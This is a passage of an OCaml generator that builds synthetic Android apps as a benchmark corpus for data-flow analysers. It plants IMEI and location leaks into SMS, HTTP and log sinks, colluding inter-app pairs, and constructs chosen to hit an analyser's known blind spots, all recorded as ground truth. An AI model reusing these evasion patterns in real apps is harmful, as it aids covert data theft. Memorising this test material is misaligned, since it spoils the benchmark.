     nothing across the app boundary *)
  let sb_main = pkgb ^ ".Main" in
  let sb_recv = pkgb ^ ".Recv" in
  let sb_decoy = pkgb ^ ".Decoy" in
  let main_b =
    B.cls sb_main ~super:"android.app.Activity"
      [
        B.meth "onCreate" ~params:[ T.Ref "android.os.Bundle" ] (fun m ->
            let _this = B.this m in
            let _ = B.param m 0 "b" in
            B.scall m "android.util.Log" "d" [ B.s "t"; B.s "b" ]);
      ]
  in
  let recv_kind = if via_activity then FW.Activity else FW.Receiver in
  let recv_b, decoy_b =
    if via_activity then
      ( icc_recv_activity sb_recv ~j:0 ~key ~rx_tag:rx (fun m _this y ->
            icc_sink m ~tag:snk y),
        icc_recv_activity sb_decoy ~j:1 ~key ~rx_tag:rxd (fun m _this y ->
            icc_sink m ~tag:snkd y) )
    else
      ( icc_recv_receiver sb_recv ~j:0 ~key ~rx_tag:rx ~snk_tag:snk,
        icc_recv_receiver sb_decoy ~j:1 ~key ~rx_tag:rxd ~snk_tag:snkd )
  in
  let receiver_app =
    {
      ga_name = Printf.sprintf "iccpairB-%04d" index;
      ga_profile = Icc;
      ga_apk =
        Apk.make
          (Printf.sprintf "iccpairB%d" index)
          ~manifest:
            (icc_manifest ~package:pkgb
               [
                 icc_comp ~main:true FW.Activity sb_main;
                 icc_comp ~filters:[ ([ action ], []) ] recv_kind sb_recv;
                 icc_comp ~exported:false
                   ~filters:[ ([ action ], []) ]
                   recv_kind sb_decoy;
               ])
          [ main_b; recv_b; decoy_b ];
      ga_expected = [];
      ga_limits = [];
      ga_classes = 3;
    }
  in
  {
    gp_name = Printf.sprintf "iccpair-%04d" index;
    gp_sender = sender_app;
    gp_receiver = receiver_app;
    gp_expected = [];
    gp_limits =
      [
        ((Some src, snd_), Lim_icc_send);
        ((Some src, snk), Lim_icc_stitch);
        ((Some rx, snk), Lim_icc_rx);
        ((Some rxd, snkd), Lim_icc_rx);
      ]
      @
      (* broadcast receivers also carry the untagged [onReceive]
         param1 reception source *)
      (if via_activity then []
       else [ ((None, snk), Lim_icc_rx); ((None, snkd), Lim_icc_rx) ]);
  }

(** [collusion_pairs ~seed n] — a deterministic fleet of [n] pairs. *)
let collusion_pairs ~seed n = List.init n (collusion_pair ~seed)

(* ------------------------------------------------------------------ *)
(* app assembly                                                        *)
(* ------------------------------------------------------------------ *)

let profile_params = function
  | Play ->
      (* (min/max utility classes, extra components, leak count sampler,
         sink choices, benign statements per method) *)
      `Params (10, 28, 5, `PlayLeaks, [ `Log; `Prefs ], 8)
  | Malware -> `Params (1, 5, 2, `Poisson 1.85, [ `Sms; `Http; `Log ], 2)
  | Icc -> assert false (* dispatched to [generate_icc] *)

let generate_std ~profile ~seed index =
  (* mix, don't add: [seed + index * 7919] collides for distinct
     pairs — (s + 7919, 0) and (s, 1) yielded identical apps.
     [Intern.combine] is asymmetric and non-linear, so every
     (seed, index) pair gets its own stream.  Note: this changes the
     per-app digests of every previously generated corpus. *)
  let rng = Prng.create (Intern.combine seed index) in
  let (`Params (min_u, max_u, max_comp, leak_model, sinks, benign_per)) =
    profile_params profile
  in
  let pkg =
    Printf.sprintf "gen.%s.app%d" (string_of_profile profile) index
  in
  let n_util = Prng.range rng min_u max_u in
  let relays =
    List.init n_util (fun i ->
        let chain_to =
          (* Play apps get a chained utility layer *)
          if profile = Play && i + 1 < n_util then
            Some (Printf.sprintf "%s.Util%d" pkg (i + 1))
          else None
        in
        relay_class ~chain_to pkg i)
  in
  let relay_names = List.map fst relays in
  let n_leaks =
    match leak_model with
    | `Poisson mean -> Prng.poisson rng mean
    | `PlayLeaks ->
        (* the majority of Play apps leak identifiers into logs/prefs
           (Section 6.3), usually once or twice *)
        if Prng.float rng 1.0 < 0.75 then Prng.range rng 1 2 else 0
  in
  let leak_specs =
    List.init n_leaks (fun i ->
        let src = if Prng.bool rng then `Imei else `Location in
        let sink = Prng.choose rng sinks in
        (i, src, sink))
  in
  let expected = ref [] in
  (* components: one main activity always; extra services/receivers *)
  let n_extra = Prng.int rng (max_comp + 1) in
  let main_cls = pkg ^ ".MainActivity" in
  let extra =
    List.init n_extra (fun i ->
        let kind = Prng.choose rng [ FW.Service; FW.Receiver ] in
        let cls =
          Printf.sprintf "%s.%s%d" pkg
            (match kind with
            | FW.Service -> "Service"
            | FW.Receiver -> "Receiver"
            | _ -> "Comp")
            i
        in
        (kind, cls))
  in
  (* distribute leaks over the components' lifecycle methods *)
  let slots =
    (main_cls, `Activity)
    :: List.map (fun (k, c) -> (c, if k = FW.Service then `Service else `Receiver)) extra
  in
  let leaks_for cls =
    List.filter (fun (i, _, _) ->
        let (slot_cls, _) = List.nth slots (i mod List.length slots) in
        slot_cls = cls)
      leak_specs
  in
  (* limitation plants: constructs exercising the documented Table 1
     imprecision categories, distributed over the components like the
     ordinary leaks *)
  let n_lims = if Prng.float rng 1.0 < 0.6 then Prng.range rng 1 2 else 0 in
  let lim_specs =
    List.init n_lims (fun j ->
        ( j,
          Prng.choose rng
            [ Lim_array_index; Lim_strong_update; Lim_clinit; Lim_reflection ]
        ))
  in
  let lim_slot j = fst (List.nth slots (j mod List.length slots)) in
  let lims_for cls = List.filter (fun (j, _) -> lim_slot j = cls) lim_specs in
  let box_cls = pkg ^ ".Box" in
  let helper_for j = Printf.sprintf "%s.LimClinit%d" pkg j in
  let lim_src_tag j = Printf.sprintf "limsrc%d" j in
  let lim_snk_tag j = Printf.sprintf "limsnk%d" j in
  let emit_lims m cls =
    List.iter
      (fun (j, lim) ->
        let src_tag = lim_src_tag j and snk_tag = lim_snk_tag j in
        match lim with
        | Lim_array_index -> emit_lim_array m ~j ~src_tag ~snk_tag
        | Lim_strong_update ->
            emit_lim_strong_update m ~box_cls ~j ~src_tag ~snk_tag
        | Lim_clinit ->
            emit_lim_clinit m ~cls ~helper:(helper_for j) ~j ~src_tag
        | Lim_reflection -> emit_lim_reflection m ~j ~src_tag
        | Lim_icc_send | Lim_icc_stitch | Lim_icc_rx ->
            (* ICC categories are planted by the Icc profile's
               scenario machinery, never by the std plant table *)
            assert false)
      (lims_for cls)
  in
  let lim_extra_methods cls =
    List.filter_map
      (fun (j, lim) ->
        match lim with
        | Lim_reflection ->
            Some (lim_reflection_target ~j ~snk_tag:(lim_snk_tag j))
        | _ -> None)
      (lims_for cls)
  in
  let lim_classes =
    List.filter_map
      (fun (j, lim) ->
        match lim with
        | Lim_clinit ->
            Some
              (lim_clinit_helper ~cls:(lim_slot j) ~helper:(helper_for j) ~j
                 ~snk_tag:(lim_snk_tag j))
        | _ -> None)
      lim_specs
    @
    if List.exists (fun (_, l) -> l = Lim_strong_update) lim_specs then
      [ B.cls box_cls ~fields:[ ("v", str_t) ] [] ]
    else []
  in
  let ga_limits =
    List.map
      (fun (j, lim) -> ((Some (lim_src_tag j), lim_snk_tag j), lim))
      lim_specs
  in
  let emit_leaks m cls =
    List.iter
      (fun (i, src, sink) ->
        let pair =
          plant_leak m rng ~relays:relay_names ~leak_id:i ~src_kind:src
            ~sink_kind:sink
        in
        expected := pair :: !expected)
      (leaks_for cls);
    emit_lims m cls;
    List.iteri (fun j () -> emit_benign m rng ~relays:relay_names ~idx:j)
      (List.init benign_per (fun _ -> ()))
  in
  let main_activity =
    B.cls main_cls ~super:"android.app.Activity"
      ([
         Build.meth "onCreate" ~params:[ T.Ref "android.os.Bundle" ] (fun m ->
             let _this = B.this m in
             let _ = B.param m 0 "b" in
             emit_leaks m main_cls);
         Build.meth "onDestroy" (fun m ->
             let _this = B.this m in
             List.iteri
               (fun j () ->
                 emit_benign m rng ~relays:relay_names ~idx:(100 + j))
               (List.init 2 (fun _ -> ())));
       ]
      @ lim_extra_methods main_cls)
  in
  let extra_classes =
    List.map
      (fun (kind, cls) ->
        match kind with
        | FW.Service ->
            B.cls cls ~super:"android.app.Service"
              ([
                 Build.meth "onStartCommand"
                   ~params:[ T.Ref "android.content.Intent"; T.Int; T.Int ]
                   ~ret:T.Int
                   (fun m ->
                     let _this = B.this m in
                     let _i = B.param m 0 "i" in
                     emit_leaks m cls;
                     let r = B.local m "r" ~ty:T.Int in
                     B.const m r (B.i 1);
                     B.retv m (B.v r));
               ]
              @ lim_extra_methods cls)
        | _ ->
            B.cls cls ~super:"android.content.BroadcastReceiver"
              ([
                 Build.meth "onReceive"
                   ~params:
                     [ T.Ref "android.content.Context";
                       T.Ref "android.content.Intent" ]
                   (fun m ->
                     let _this = B.this m in
                     let _c = B.param m 0 "c" in
                     let intent = B.param m 1 "intent" in
                     ignore intent;
                     emit_leaks m cls);
               ]
              @ lim_extra_methods cls))
      extra
  in
  let manifest =
    Apk.simple_manifest ~package:pkg
      ((FW.Activity, main_cls, [])
      :: List.map (fun (k, c) -> (k, c, [])) extra)
  in
  let classes =
    (main_activity :: extra_classes) @ lim_classes @ List.map snd relays
  in
  {
    ga_name = Printf.sprintf "%s-%04d" (string_of_profile profile) index;
    ga_profile = profile;
    ga_apk = Apk.make (Printf.sprintf "gen%d" index) ~manifest classes;
    ga_expected = List.rev !expected;
    ga_limits = ga_limits;
    ga_classes = List.length classes;
  }

(** [generate ~profile ~seed index] produces one deterministic app. *)
let generate ~profile ~seed index =
  match profile with
  | Icc -> generate_icc ~seed index
  | Play | Malware -> generate_std ~profile ~seed index

(** [corpus ~profile ~seed n] is a deterministic corpus of [n] apps. *)
let corpus ~profile ~seed n = List.init n (generate ~profile ~seed)

(* keep the standalone emitters exported for tests *)
let _ = (emit_imei, emit_location, emit_log, emit_prefs, emit_sms, emit_http)
